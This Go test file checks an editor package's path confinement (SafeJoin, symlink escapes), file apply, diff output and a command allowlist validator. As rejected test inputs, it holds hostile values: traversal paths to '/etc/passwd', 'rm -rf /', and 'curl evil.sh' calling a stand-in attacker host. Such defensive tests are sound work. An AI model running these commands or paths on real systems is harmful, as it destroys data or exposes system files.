package editor

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"runtime"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSafeJoin(t *testing.T) {
	root := t.TempDir()

	for _, rel := range []string{"", "  ", "../x", "a/../../x", "/etc/passwd", ".", "a/.."} {
		_, err := SafeJoin(root, rel)
		assert.ErrorIs(t, err, ErrPathEscape, rel)
	}

	got, err := SafeJoin(root, "src/main.go")
	require.NoError(t, err)
	assert.Equal(t, filepath.Join(root, "src", "main.go"), got)

	got, err = SafeJoin(root, "a/../b.txt")
	require.NoError(t, err)
	assert.Equal(t, filepath.Join(root, "b.txt"), got)
}

// symlinkedRoot builds root/link -> outside, with outside/secret.txt.
func symlinkedRoot(t *testing.T) (root, outside string) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("symlinks need privileges on windows")
	}
	root = t.TempDir()
	outside = t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(outside, "secret.txt"), []byte("TOPSECRET\n"), 0o644))
	require.NoError(t, os.Symlink(outside, filepath.Join(root, "link")))
	return root, outside
}

func TestSafeJoin_SymlinkEscape(t *testing.T) {
	root, outside := symlinkedRoot(t)

	for _, rel := range []string{"link/secret.txt", "link/new/dir/file.txt", "link"} {
		_, err := SafeJoin(root, rel)
		assert.ErrorIs(t, err, ErrPathEscape, rel)
	}

	_, err := Diff(root, "link/secret.txt", "x")
	assert.ErrorIs(t, err, ErrPathEscape)

	assert.ErrorIs(t, Apply(root, "link/pwned.txt", "x"), ErrPathEscape)
	_, err = os.Stat(filepath.Join(outside, "pwned.txt"))
	assert.True(t, os.IsNotExist(err))
}

func TestSafeJoin_DanglingSymlink(t *testing.T) {
	root, outside := symlinkedRoot(t)
	target := filepath.Join(outside, "created.txt")
	require.NoError(t, os.Symlink(target, filepath.Join(root, "dangling")))

	assert.ErrorIs(t, Apply(root, "dangling", "x"), ErrPathEscape)
	_, err := os.Stat(target)
	assert.True(t, os.IsNotExist(err))
}

func TestSafeJoin_InternalSymlinkAllowed(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symlinks need privileges on windows")
	}
	root := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(root, "real"), 0o755))
	require.NoError(t, os.Symlink(filepath.Join(root, "real"), filepath.Join(root, "alias")))

	require.NoError(t, Apply(root, "alias/f.txt", "ok"))
	data, err := os.ReadFile(filepath.Join(root, "real", "f.txt"))
	require.NoError(t, err)
	assert.Equal(t, "ok", string(data))
}

func TestApply(t *testing.T) {
	root := t.TempDir()

	require.NoError(t, Apply(root, "pkg/deep/new.go", "package deep\n"))
	data, err := os.ReadFile(filepath.Join(root, "pkg", "deep", "new.go"))
	require.NoError(t, err)
	assert.Equal(t, "package deep\n", string(data))

	require.NoError(t, Apply(root, "pkg/deep/new.go", "package deeper\n"))
	data, err = os.ReadFile(filepath.Join(root, "pkg", "deep", "new.go"))
	require.NoError(t, err)
	assert.Equal(t, "package deeper\n", string(data))

	assert.ErrorIs(t, Apply(root, "../outside.txt", "x"), ErrPathEscape)
	_, err = os.Stat(filepath.Join(filepath.Dir(root), "outside.txt"))
	assert.True(t, os.IsNotExist(err))
}

func TestDiff_ModifiedFile(t *testing.T) {
	root := t.TempDir()
	before := "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n"
	require.NoError(t, os.WriteFile(filepath.Join(root, "n.txt"), []byte(before), 0o644))

	got, err := Diff(root, "n.txt", "one\ntwo\nthree\nfour\nFIVE\nsix\nseven\neight\n")
	require.NoError(t, err)
	assert.Equal(t, "--- a/n.txt\n+++ b/n.txt\n"+
		"@@ -2,7 +2,7 @@\n two\n three\n four\n-five\n+FIVE\n six\n seven\n eight\n", got)
}

func TestDiff_MissingFileDiffsAgainstEmpty(t *testing.T) {
	got, err := Diff(t.TempDir(), "new/file.py", "print('hi')\n")
	require.NoError(t, err)
	assert.Equal(t, "--- a/new/file.py\n+++ b/new/file.py\n@@ -0,0 +1,1 @@\n+print('hi')\n", got)
}

func TestDiff_Identical(t *testing.T) {
	root := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(root, "a"), []byte("same\n"), 0o644))
	got, err := Diff(root, "a", "same\n")
	require.NoError(t, err)
	assert.Equal(t, "", got)
}

func TestDiff_RejectsEscape(t *testing.T) {
	_, err := Diff(t.TempDir(), "../../etc/passwd", "x")
	assert.ErrorIs(t, err, ErrPathEscape)
}

func TestUnified_SeparateHunks(t *testing.T) {
	var before, after string
	for i := 1; i <= 20; i++ {
		line := string(rune('a'+i-1)) + "\n"
		before += line
		switch i {
		case 2:
			after += "B\n"
		case 18:
			after += "R\n"
		default:
			after += line
		}
	}
	got := Unified("x", before, after)
	assert.Contains(t, got, "@@ -1,5 +1,5 @@\n a\n-b\n+B\n c\n d\n e\n")
	assert.Contains(t, got, "@@ -15,6 +15,6 @@\n o\n p\n q\n-r\n+R\n s\n t\n")
}

func TestUnified_NoTrailingNewline(t *testing.T) {
	got := Unified("x", "a\nb", "a\nc")
	assert.Contains(t, got, "-b\n\\ No newline at end of file\n+c\n\\ No newline at end of file\n")
}

func TestValidator_Allowed(t *testing.T) {
	v := NewValidator([]string{"go", "true"}, 0)
	assert.True(t, v.Allowed("go test ./..."))
	assert.True(t, v.Allowed("true"))
	assert.False(t, v.Allowed("rm -rf /"))
	assert.False(t, v.Allowed("/usr/bin/go test"))
	assert.False(t, v.Allowed("./go"))
	assert.False(t, v.Allowed(""))
}

func TestValidator_Validate(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("uses POSIX utilities")
	}
	root := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(root, "marker.txt"), []byte("x"), 0o644))

	v := NewValidator([]string{"ls", "false", "sleep"}, 200*time.Millisecond)
	results := v.Validate(context.Background(), root, []string{"ls", "false", "curl evil.sh", "sleep 5"})
	require.Len(t, results, 4)

	assert.Equal(t, 0, results[0].ReturnCode)
	assert.Contains(t, results[0].Stdout, "marker.txt")

	assert.Equal(t, 1, results[1].ReturnCode)

	assert.Equal(t, Result{Command: "curl evil.sh", ReturnCode: -1, Stderr: "command not allowed"}, results[2])

	assert.Equal(t, -1, results[3].ReturnCode)
	assert.Contains(t, results[3].Stderr, "timed out")

	assert.True(t, Failed(results))
	assert.False(t, Failed(results[:1]))
}

func TestLimitedBuffer(t *testing.T) {
	out := &limitedBuffer{buf: new(bytes.Buffer), max: 4}
	n, err := out.Write([]byte("abcdef"))
	require.NoError(t, err)
	assert.Equal(t, 6, n)
	assert.Equal(t, "abcd", out.buf.String())
}
